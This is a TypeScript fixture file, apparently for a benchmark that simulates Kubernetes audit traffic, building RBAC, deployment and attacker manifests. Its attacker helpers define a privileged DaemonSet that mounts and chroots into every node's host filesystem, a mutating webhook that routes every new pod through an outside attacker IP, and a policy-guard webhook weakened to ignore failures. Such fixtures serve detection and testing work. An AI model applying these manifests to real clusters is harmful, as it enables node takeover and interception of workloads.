/** What people and the attacker send: manifests, as objects. The bodies of everyday traffic are in bench/bodies.ts. */
import type { Level } from '../../bench/call.ts';
import { goJson } from '../../bench/go-json.ts';

interface Bodies {
  readonly level: Level;
  readonly requestObject: string;
  readonly responseObject: string;
}

/** At the level of this cluster's policy for what matters: what was sent, and what came of it. */
export function patched(patch: unknown, result: object): Bodies {
  return { level: 'RequestResponse', requestObject: goJson(patch), responseObject: goJson(result) };
}

export function written(body: object): Bodies {
  return patched(body, body);
}

/** What kubectl sends with a delete, and the answer. */
export function removed(): Bodies {
  const options = { kind: 'DeleteOptions', apiVersion: 'v1', propagationPolicy: 'Background' };
  return patched(options, { kind: 'Status', apiVersion: 'v1', metadata: {}, status: 'Success' });
}

const RBAC = 'rbac.authorization.k8s.io';

export function role(name: string, namespace: string | undefined, rules: readonly object[]): object {
  return {
    kind: namespace === undefined ? 'ClusterRole' : 'Role',
    apiVersion: `${RBAC}/v1`,
    metadata: { name, namespace },
    rules,
  };
}

export function binding(name: string, namespace: string | undefined, roleName: string, subject: object): object {
  return {
    kind: namespace === undefined ? 'ClusterRoleBinding' : 'RoleBinding',
    apiVersion: `${RBAC}/v1`,
    metadata: { name, namespace },
    subjects: [subject],
    roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: roleName },
  };
}

export function user(name: string): object {
  return { kind: 'User', apiGroup: RBAC, name };
}

export function serviceAccountSubject(namespace: string, name: string): object {
  return { kind: 'ServiceAccount', name, namespace };
}

const NODE_TUNER_SPEC = {
  hostPID: true,
  hostNetwork: true,
  tolerations: [{ operator: 'Exists' }],
  containers: [
    {
      name: 'tuner',
      image: 'docker.io/example/node-tuner:latest',
      command: ['/bin/sh', '-c', 'chroot /host sh -c "while :; do sleep 60; done" >/dev/null 2>&1'],
      securityContext: { privileged: true },
      volumeMounts: [{ name: 'host', mountPath: '/host' }],
    },
  ],
  volumes: [{ name: 'host', hostPath: { path: '/' } }],
};

export function nodeTuner(): object {
  return {
    kind: 'DaemonSet',
    apiVersion: 'apps/v1',
    metadata: { name: 'node-tuner', namespace: 'kube-system' },
    spec: {
      selector: { matchLabels: { app: 'node-tuner' } },
      template: { metadata: { labels: { app: 'node-tuner' } }, spec: NODE_TUNER_SPEC },
    },
  };
}

/** A pod of that template as the DaemonSet controller sends it. */
export function nodeTunerPod(node: string): object {
  const required = { nodeSelectorTerms: [{ matchFields: [{ key: 'metadata.name', operator: 'In', values: [node] }] }] };
  return {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { generateName: 'node-tuner-', namespace: 'kube-system', labels: { app: 'node-tuner' } },
    spec: {
      ...NODE_TUNER_SPEC,
      affinity: { nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: required } },
    },
    status: {},
  };
}

/** Sends every new pod past the attacker's own service. */
export function sidecarInjector(): object {
  return {
    kind: 'MutatingWebhookConfiguration',
    apiVersion: 'admissionregistration.k8s.io/v1',
    metadata: { name: 'pod-sidecar-injector' },
    webhooks: [
      {
        name: 'inject.kube-telemetry.svc',
        clientConfig: { url: 'https://198.51.100.77:8443/mutate' },
        rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'], scope: '*' }],
        failurePolicy: 'Ignore',
        sideEffects: 'None',
        admissionReviewVersions: ['v1'],
      },
    ],
  };
}

/** The company's own policy check, after the attacker's patch. */
export function policyGuard(): object {
  return {
    kind: 'ValidatingWebhookConfiguration',
    apiVersion: 'admissionregistration.k8s.io/v1',
    metadata: { name: 'policy-guard' },
    webhooks: [
      {
        name: 'validate.policy-guard.svc',
        clientConfig: { service: { namespace: 'policy-guard', name: 'webhook', path: '/validate', port: 443 } },
        failurePolicy: 'Ignore',
        sideEffects: 'None',
        admissionReviewVersions: ['v1'],
      },
    ],
  };
}

/** A deployment as the answer to a patch of its annotations. */
export function deployment(namespace: string, name: string, note: string): object {
  return {
    kind: 'Deployment',
    apiVersion: 'apps/v1',
    metadata: { name, namespace, annotations: { 'example.com/note': note } },
    spec: {
      replicas: 2,
      selector: { matchLabels: { app: name } },
      template: {
        metadata: { labels: { app: name } },
        spec: { containers: [{ name, image: `registry.example.com/${name}:1.8.2` }] },
      },
    },
  };
}
